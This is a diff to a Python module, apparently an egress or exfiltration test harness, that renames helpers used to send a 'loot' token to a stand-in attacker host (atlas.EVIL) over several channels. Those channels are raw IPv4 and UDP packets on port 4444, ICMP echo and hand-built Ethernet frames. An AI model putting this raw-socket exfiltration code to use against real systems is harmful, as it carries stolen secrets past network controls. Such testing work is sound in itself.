@@ -34,7 +34,7 @@ def _echo(kind: int, loot: Loot) -> bytes:
     return struct.pack("!BBH", kind, 0, _checksum(unsummed)) + body
 
 
-def _ip_packet(protocol: int, payload: bytes) -> bytes:
+def ip_packet(protocol: int, payload: bytes) -> bytes:
     """An IPv4 packet from the address that routes to the attacker (RFC 791 section 3.1)."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
         probe.connect((atlas.EVIL.v4, 9))
@@ -44,7 +44,7 @@ def _ip_packet(protocol: int, payload: bytes) -> bytes:
     return head[:10] + struct.pack("!H", _checksum(head)) + head[12:] + payload
 
 
-def _datagram(loot: Loot) -> bytes:
+def datagram(loot: Loot) -> bytes:
     data = loot.token.encode()
     return struct.pack("!4H", 4444, 4444, 8 + len(data), 0) + data
 
@@ -74,7 +74,7 @@ def raw_protocols(loot: Loot) -> None:
 
 def raw_datagram(loot: Loot) -> None:
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sending:
-        sending.sendto(_ip_packet(socket.IPPROTO_UDP, _datagram(loot)), (atlas.EVIL.v4, 0))
+        sending.sendto(ip_packet(socket.IPPROTO_UDP, datagram(loot)), (atlas.EVIL.v4, 0))
 
 
 def frame(loot: Loot) -> None:
@@ -83,7 +83,7 @@ def frame(loot: Loot) -> None:
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sending:
         sending.bind((device, _ETH_P_IP))
         head = router + sending.getsockname()[4] + struct.pack("!H", _ETH_P_IP)
-        sending.send(head + _ip_packet(socket.IPPROTO_UDP, _datagram(loot)))
+        sending.send(head + ip_packet(socket.IPPROTO_UDP, datagram(loot)))
 
 
 def _router() -> tuple[bytes, str]:
